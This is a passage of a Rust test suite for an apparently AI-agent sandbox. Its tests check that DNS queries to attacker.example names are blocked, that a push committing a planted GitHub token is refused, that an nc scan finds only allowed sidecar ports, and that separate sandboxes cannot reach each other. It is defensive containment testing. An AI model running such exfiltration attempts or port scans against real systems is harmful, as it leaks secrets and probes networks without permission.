    let loopback_udp = w.loopback_dns.0.recv_from(&mut buf).is_ok();
    let loopback_tcp = w.loopback_dns.1.accept().is_ok();
    expect(!loopback_udp && !loopback_tcp, || {
        "the host's loopback resolver received a query".into()
    })?;
    let lines = decisions_since(&l.sidecar, from);
    for (how, _) in &asks {
        let name = format!("{label}-{how}.attacker.example");
        expect(
            lines.iter().any(|d| {
                d["service"] == "dns"
                    && d["verdict"] == "block"
                    && d["host"].as_str().is_some_and(|h| h.contains(&name))
            }),
            || format!("the sink logged no refusal of {name}"),
        )?;
    }
    Ok(())
}

fn dirty_push(w: &World) -> Result<(), String> {
    let a = &w.a;
    let clone = exec(
        &a.agent,
        "node",
        "cd ~ && (test -d shop || git clone -q ssh://git@git.test:2222/srv/git/shop.git shop)",
    );
    expect(clone.status.success(), || {
        format!("clone: {}", stderr(&clone))
    })?;
    let contacts = || {
        Command::new("docker")
            .args(["logs", &w.git])
            .output()
            .map(|o| {
                String::from_utf8_lossy(&o.stderr)
                    .matches("Connection from")
                    .count()
            })
            .unwrap_or(0)
    };
    let before = contacts();
    let out = exec(
        &a.agent,
        "node",
        &format!(
            "cd ~/shop && echo 'github = {}' > deploy.env && git add deploy.env && git commit -q -m leak && git push origin main; s=$?; git reset -q --hard HEAD~1; exit $s",
            PLANTED[2].2
        ),
    );
    let err = stderr(&out);
    expect(!out.status.success(), || "the push was accepted".into())?;
    expect(
        err.contains("deploy.env") && err.contains("github-pat"),
        || format!("the refusal names neither file nor rule: {err}"),
    )?;
    expect(!err.contains(PLANTED[2].2), || {
        "the refusal shows the secret".into()
    })?;
    let log = stdout(&exec(
        &w.git,
        "git",
        "git -C /srv/git/shop.git log --all --format=%s",
    ));
    expect(!log.contains("leak"), || {
        "the upstream received the commit".into()
    })?;
    expect(contacts() == before, || {
        "the upstream was contacted during the refused push".into()
    })
}

fn sidecar_ports(w: &World) -> Result<(), String> {
    let ip = w.a.ip_on(&w.a.sidecar, &w.a.internal_net);
    // One nc over the whole range: closed ports answer at once on the internal network.
    let out = exec(
        &w.a.agent,
        "node",
        &format!("nc -z -v -w 1 {ip} 1-10000 2>&1 | grep succeeded | cut -d' ' -f4; true"),
    );
    let open: Vec<String> = stdout(&out).lines().map(str::to_string).collect();
    let allowed = ["53", "9099", "9418"];
    expect(open.iter().all(|p| allowed.contains(&p.as_str())), || {
        format!("open ports on the sidecar: {open:?}")
    })?;
    expect(open.iter().any(|p| p == "9099"), || {
        format!("the proxy port is not open: {open:?}")
    })
}

fn bottles_apart(w: &World) -> Result<(), String> {
    let (a, b) = (&w.a, &w.b);
    let _ = exec(&b.agent, "node", "nohup nc -k -l 7777 >/dev/null 2>&1 &");
    let b_agent = b.ip_on(&b.agent, &b.internal_net);
    let b_sidecar = b.ip_on(&b.sidecar, &b.internal_net);
    let b_sidecar_out = b.ip_on(&b.sidecar, &b.egress_net);
    // Positive control: B's own agent reaches its listener and its sidecar.
    let control = exec(
        &b.agent,
        "node",
        &format!("nc -z -w 2 {b_agent} 7777 && nc -z -w 2 {b_sidecar} 9099"),
    );
    expect(control.status.success(), || {
        "control: B cannot reach its own listener and sidecar".into()
    })?;
    for (what, target) in [
        ("B's agent", format!("{b_agent} 7777")),
        ("B's sidecar", format!("{b_sidecar} 9099")),
        (
            "B's sidecar on its egress network",
            format!("{b_sidecar_out} 9099"),
        ),
    ] {
        let out = exec(&a.agent, "node", &format!("nc -z -w 2 {target}"));
        expect(!out.status.success(), || {
            format!("A reached {what} ({target})")
        })?;
    }
    let a_sidecar = a.ip_on(&a.sidecar, &a.internal_net);
    let out = exec(&b.agent, "node", &format!("nc -z -w 2 {a_sidecar} 9099"));
    expect(!out.status.success(), || "B reached A's sidecar".into())
}

// ---- small helpers ----

fn base64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in data.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= c.len() {
                out.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn exec(container: &str, user: &str, script: &str) -> Output {
    bb_testkit::docker_exec(container, user, script)
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).trim_end().to_string()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).trim_end().to_string()
}

fn wait_child(child: &mut Child, limit: Duration) -> Option<std::process::ExitStatus> {
    let status = wait_for(limit, || child.try_wait().ok().flatten());
    if status.is_none() {
        let _ = child.kill();
    }
    status
}
